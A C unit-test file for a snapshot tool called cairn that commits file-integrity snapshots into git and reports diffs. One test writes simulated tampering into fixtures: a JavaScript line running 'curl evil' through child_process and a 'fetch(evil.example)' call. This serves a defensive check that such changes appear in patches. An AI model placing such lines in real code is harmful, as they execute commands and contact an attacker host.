/*
 * check_store.c - snapshots committed into a real git repository: branch
 * per host and root, byte-identical snapshot blob, content blobs equal to
 * git hash-object, files changed since the snapshot never stored, history
 * read back by revision, unified patches, and git fsck on the result.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "diff.h"
#include "scan.h"
#include "store.h"

#include "scratch.h"

Suite *store_suite(void);

SCRATCH_FIXTURE("check_store")

static void sh(const char *script)
{
	char cmd[2048];

	snprintf(cmd, sizeof(cmd), "cd '%s' && set -e && %s", tmpdir, script);
	ck_assert_msg(system(cmd) == 0, "script failed: %s", script);
}

static void capture(char *out, size_t n, const char *script)
{
	char cmd[1024];
	FILE *p;

	snprintf(cmd, sizeof(cmd), "cd '%s' && %s", tmpdir, script);
	p = popen(cmd, "r");
	ck_assert_ptr_nonnull(p);
	out[0] = '\0';
	if (!fgets(out, (int)n, p))
		out[0] = '\0';
	out[strcspn(out, "\n")] = '\0';
	pclose(p);
}

/* A real snapshot of tmpdir/root through the scan pipeline. */
static void snapshot(const char *name)
{
	cairn_snap_writer *w;
	cairn_scan_opts so;
	char root[256];
	json_t *h;

	snprintf(root, sizeof(root), "%s/root", tmpdir);
	memset(&so, 0, sizeof(so));
	so.jobs = 1;
	h = json_pack("{s:s,s:s,s:s}", "hostname", "web-1", "root", "/srv/app", "created",
		      "2026-03-01T12:00:00Z");
	ck_assert_int_eq(cairn_snap_writer_open(&w, tpath(name), h), 0);
	ck_assert_msg(cairn_scan_run(root, &so, w, NULL) == 0, "%s", cairn_error_last());
	ck_assert_int_eq(cairn_snap_writer_close(w, NULL, NULL), 0);
	json_decref(h);
}

START_TEST(test_store_branch_names)
{
	char *b = cairn_store_branch_name("web-1", "/srv/app");
	char *c = cairn_store_branch_name("web 1", "/srv/../app");

	ck_assert_int_eq(strncmp(b, "cairn/web-1/srv_app-", 20), 0);
	ck_assert_uint_eq(strlen(b), 28);
	ck_assert_ptr_null(strstr(c, ".."));
	ck_assert_ptr_null(strchr(c + 6, ' '));
	free(b);
	free(c);
}
END_TEST

START_TEST(test_store_commit_and_read_back)
{
	char hex1[41], hex2[41], got[128], want[128], *branch = NULL;
	cairn_store_stats st;
	cairn_store *s = NULL;
	void *data = NULL;
	size_t len = 0;
	FILE *f;
	char *orig;
	long olen;

	sh("mkdir -p root/lib && printf 'line1\\nline2\\nline3\\n' > root/lib/index.js && "
	   "printf '#!/bin/sh\\n' > root/run.sh && chmod +x root/run.sh && "
	   "ln -s lib/index.js root/main && printf 'bin\\0ary' > root/blob.bin");
	snapshot("s1.cairn");
	ck_assert_msg(cairn_store_commit(tpath("store.git"), tpath("s1.cairn"), tpath("root"),
					 1, hex1, &st, &branch) == 0, "%s", cairn_error_last());
	ck_assert_uint_eq(st.files_stored, 4);
	ck_assert_uint_eq(st.files_skipped, 0);
	ck_assert_int_eq(strncmp(branch, "cairn/web-1/srv_app-", 20), 0);
	/* the branch points at the commit; content blobs are git's */
	snprintf(want, sizeof(want), "git -C store.git rev-parse 'refs/heads/%s'", branch);
	capture(got, sizeof(got), want);
	ck_assert_str_eq(got, hex1);
	capture(got, sizeof(got), "git -C store.git rev-parse HEAD:files/lib/index.js");
	capture(want, sizeof(want), "git hash-object --no-filters root/lib/index.js");
	ck_assert_str_eq(got, want);
	capture(got, sizeof(got), "git -C store.git ls-tree HEAD files/run.sh | cut -c1-6");
	ck_assert_str_eq(got, "100755");
	capture(got, sizeof(got), "git -C store.git ls-tree HEAD files/main | cut -c1-6");
	ck_assert_str_eq(got, "120000");
	capture(got, sizeof(got), "git -C store.git cat-file -p HEAD:snapshot.cairn | cmp - s1.cairn && echo same");
	ck_assert_str_eq(got, "same");
	capture(got, sizeof(got), "git -C store.git log -1 --format=%an:%at HEAD");
	ck_assert_str_eq(got, "cairn:1772366400");

	/* second snapshot: one line added */
	sh("printf 'line1\\nline2\\nrequire(\"child_process\").exec(\"curl evil\")\\nline3\\n' "
	   "> root/lib/index.js && printf 'bin\\0ar2' > root/blob.bin && "
	   "printf 'fetch(evil.example)\\n' > root/lib/added.js");
	snapshot("s2.cairn");
	ck_assert_int_eq(cairn_store_commit(tpath("store.git"), tpath("s2.cairn"),
					    tpath("root"), 1, hex2, NULL, NULL), 0);
	capture(got, sizeof(got), "git -C store.git rev-parse HEAD~1");
	ck_assert_str_eq(got, hex1);

	/* read back by revision: the exact bytes of the first snapshot */
	ck_assert_int_eq(cairn_store_load(&data, &len, got, tpath("store.git"), "HEAD~1"), 0);
	ck_assert_str_eq(got, hex1);
	f = fopen(tpath("s1.cairn"), "rb");
	fseek(f, 0, SEEK_END);
	olen = ftell(f);
	rewind(f);
	orig = malloc((size_t)olen);
	ck_assert_uint_eq(fread(orig, 1, (size_t)olen, f), (size_t)olen);
	fclose(f);
	ck_assert_uint_eq(len, (size_t)olen);
	ck_assert_int_eq(memcmp(orig, data, len), 0);
	free(orig);
	free(data);

	/* the patch shows the added line; the binary file is flagged */
	{
		cairn_buf p = CAIRN_BUF_INIT;

		ck_assert_int_eq(cairn_store_open(&s, tpath("store.git")), 0);
		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "lib/index.js", 12, &p), 1);
		ck_assert_ptr_nonnull(strstr(p.data, "+require(\"child_process\")"));
		ck_assert_msg(strstr(p.data, "--- a/lib/index.js") != NULL, "%s", p.data);
		cairn_buf_clear(&p);
		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "blob.bin", 8, &p), 2);
		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "absent", 6, &p), 0);
		/* an added file: all its lines added */
		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "lib/added.js", 12, &p), 1);
		ck_assert_msg(strstr(p.data, "+fetch(evil.example)\n") != NULL,
			      "%s", p.data);
		ck_assert_ptr_nonnull(strstr(p.data, "new file mode"));
		cairn_buf_release(&p);
		cairn_store_close(s);
	}
	sh("git -C store.git fsck --strict --no-progress 2>&1 | (! grep -q .)");
	free(branch);
}
END_TEST

START_TEST(test_store_skips_files_changed_since_snapshot)
{
	char hex[41], got[128];
	cairn_store_stats st;

	sh("mkdir root && printf 'original\\n' > root/a && printf 'keep\\n' > root/b");
	snapshot("s.cairn");
	sh("printf 'tampered\\n' > root/a");                /* same size, other bytes */
	ck_assert_int_eq(cairn_store_commit(tpath("st.git"), tpath("s.cairn"), tpath("root"),
					    1, hex, &st, NULL), 0);
	ck_assert_uint_eq(st.files_stored, 1);
	ck_assert_uint_eq(st.files_skipped, 1);
	capture(got, sizeof(got), "git -C st.git ls-tree -r --name-only HEAD | tr '\\n' ' '");
	ck_assert_str_eq(got, "files/b snapshot.cairn ");
}
END_TEST

START_TEST(test_store_diff_by_revision)
{
	char hex[41];
	void *da = NULL, *db = NULL;
	size_t la, lb;
	cairn_snap_reader *ra = NULL, *rb = NULL;
	cairn_diff *d = NULL;

	sh("mkdir root && printf 'one\\n' > root/a");
	snapshot("s1.cairn");
	ck_assert_int_eq(cairn_store_commit(tpath("d.git"), tpath("s1.cairn"), NULL, 0, hex,
					    NULL, NULL), 0);
	sh("git -C d.git tag known-good && printf 'two\\n' > root/b");
	snapshot("s2.cairn");
	ck_assert_int_eq(cairn_store_commit(tpath("d.git"), tpath("s2.cairn"), NULL, 0, hex,
					    NULL, NULL), 0);
	ck_assert_int_eq(cairn_store_load(&da, &la, NULL, tpath("d.git"), "known-good"), 0);
	ck_assert_int_eq(cairn_store_load(&db, &lb, NULL, tpath("d.git"), "HEAD"), 0);
	ck_assert_int_eq(cairn_snap_reader_open_mem(&ra, da, la, "known-good", NULL), 0);
	ck_assert_int_eq(cairn_snap_reader_open_mem(&rb, db, lb, "HEAD", NULL), 0);
	ck_assert_int_eq(cairn_diff_readers(&d, ra, "known-good", rb, "HEAD", NULL), 0);
	ck_assert_uint_eq(cairn_diff_get_counts(d)->kind[CAIRN_DIFF_ADDED], 1);
	cairn_diff_free(d);
	cairn_snap_reader_free(ra);
	cairn_snap_reader_free(rb);
	free(da);
	free(db);
	ck_assert_int_eq(cairn_store_load(&da, &la, NULL, tpath("d.git"), "nope"),
			 CAIRN_ENOTFOUND);
	ck_assert_ptr_null(da);
}
END_TEST

START_TEST(test_store_rejects_tampered_snapshot)
{
	char hex[41];

	sh("mkdir root && printf 'x\\n' > root/a");
	snapshot("s.cairn");
	sh("zstd -qdc s.cairn | sed 's/\"size\":2/\"size\":3/' | zstd -q -o t.cairn");
	ck_assert_int_eq(cairn_store_commit(tpath("t.git"), tpath("t.cairn"), NULL, 0, hex,
					    NULL, NULL), CAIRN_EVERIFY);
	ck_assert_ptr_nonnull(strstr(cairn_error_last(), "t.cairn"));
	/* no branch was created */
	{
		char got[128], cmd[256];

		snprintf(cmd, sizeof(cmd), "git -C t.git for-each-ref | wc -l");
		capture(got, sizeof(got), cmd);
		ck_assert_str_eq(got, "0");
	}
}
END_TEST

Suite *store_suite(void)
{
	Suite *s = suite_create("store");
	TCase *tc = tcase_create("store");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 30);
	tcase_add_test(tc, test_store_branch_names);
	tcase_add_test(tc, test_store_commit_and_read_back);
	tcase_add_test(tc, test_store_skips_files_changed_since_snapshot);
	tcase_add_test(tc, test_store_diff_by_revision);
	tcase_add_test(tc, test_store_rejects_tampered_snapshot);
	suite_add_tcase(s, tc);
	return s;
}
